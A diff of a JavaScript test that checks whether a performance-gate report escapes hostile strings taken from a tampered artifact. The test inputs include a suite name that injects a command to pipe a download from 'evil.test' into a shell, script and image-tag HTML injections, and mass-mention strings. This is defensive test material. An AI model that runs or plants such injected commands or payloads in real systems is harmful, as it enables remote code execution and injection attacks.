@@ -91,7 +91,8 @@ test('escapes strings from the artifact: no HTML, Markdown, table breaks or ment
   const tampered = {
     ...base,
     suite: 'pr; curl evil.test | sh',
-    scenarios: [{ ...base.scenarios[0], scenario: hostile, outcome: 'error', message: '@here\n# Heading\n<script>x</script>' }, ...base.scenarios.slice(1)],
+    reproduce: 'scripts/gate.sh ```\n# Heading @octocat',
+    scenarios: [{ ...base.scenarios[0], scenario: hostile, outcome: 'error', notRun: true, message: '@here\n# Heading\n<script>x</script>' }, ...base.scenarios.slice(1)],
     fingerprint: { ...base.fingerprint, jvm: '<b>jvm</b> @admins' },
     complete: false,
     decision: { outcome: 'INCOMPLETE', exitCode: 2, status: 'incomplete', judged: true, headline: 'run INCOMPLETE: <img src=x> @octocat GH-12',
@@ -106,8 +107,7 @@ test('escapes strings from the artifact: no HTML, Markdown, table breaks or ment
   }
   assert.match(body, /&lt;img src&#61;x|&lt;img src=x/, 'the text is shown, escaped')
   assert.match(body, /💥 kafka-perf-gate&#58; incomplete run, 1 scenario could not run/)
-  const reproduce = body.slice(body.indexOf('```sh'))
-  assert.doesNotMatch(reproduce, /-Dperf\.suite/, 'an unsafe suite name never reaches the command line')
+  assert.doesNotMatch(body, /```sh/, 'a reproduce command that could close its code block is not printed')
 })
 
 test('a 403 from a read-only token fails with one ::error:: line that says why', async () => {
